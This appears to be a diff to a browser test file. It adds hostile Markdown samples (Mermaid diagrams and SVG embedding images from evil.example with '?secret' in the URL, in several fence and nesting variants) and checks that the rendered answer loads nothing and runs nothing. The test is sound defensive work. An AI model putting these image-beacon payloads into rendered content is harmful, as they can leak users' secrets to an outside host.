@@ -32,6 +32,45 @@ const HOSTILE = `Look here.
 window.hacked = 7
 \`\`\`
 
+\`\`\`mermaid
+flowchart TD
+  A["<img src=https://evil.example/label.png?secret>"]
+\`\`\`
+
+\`\`\`mermaid
+flowchart TD
+  A@{ img: "https://evil.example/node.png?secret", label: "a" }
+\`\`\`
+
+~~~mermaid
+flowchart TD
+  A["<img src=https://evil.example/tilde.png?secret>"]
+  B@{ img: "https://evil.example/tilde-node.png?secret" }
+~~~
+
+- A list:
+
+  \`\`\`mermaid
+  flowchart TD
+    A["<img src=https://evil.example/list.png?secret>"]
+    B@{ img: "https://evil.example/list-node.png?secret" }
+  \`\`\`
+
+   \`\`\`\` MerMaid
+   flowchart TD
+     A["<img src=https://evil.example/case.png?secret>"]
+     B@{ img: "https://evil.example/case-node.png?secret" }
+   \`\`\`\`
+
+> \`\`\`mermaid
+> flowchart TD
+>   A["<img src=https://evil.example/quote.png?secret>"]
+> \`\`\`
+
+\`\`\`svg
+<svg><image href="https://evil.example/o.png"/></svg>
+\`\`\`
+
 The end.
 `;
 
@@ -55,6 +94,9 @@ test('hostile Markdown loads nothing and runs nothing', async ({ page }) => {
     await answer.getByText(name, { exact: true }).click();
   }
   await expect(panel.region).toBeVisible();
+  await expect(answer.locator('pre', { hasText: 'flowchart' })).toHaveCount(6);
+  // A diagram would be drawn, and load, a while after its text has come.
+  await page.waitForLoadState('networkidle');
   expect(asked).toEqual([]);
   expect(await page.evaluate('window.hacked')).toBeUndefined();
   const elements =
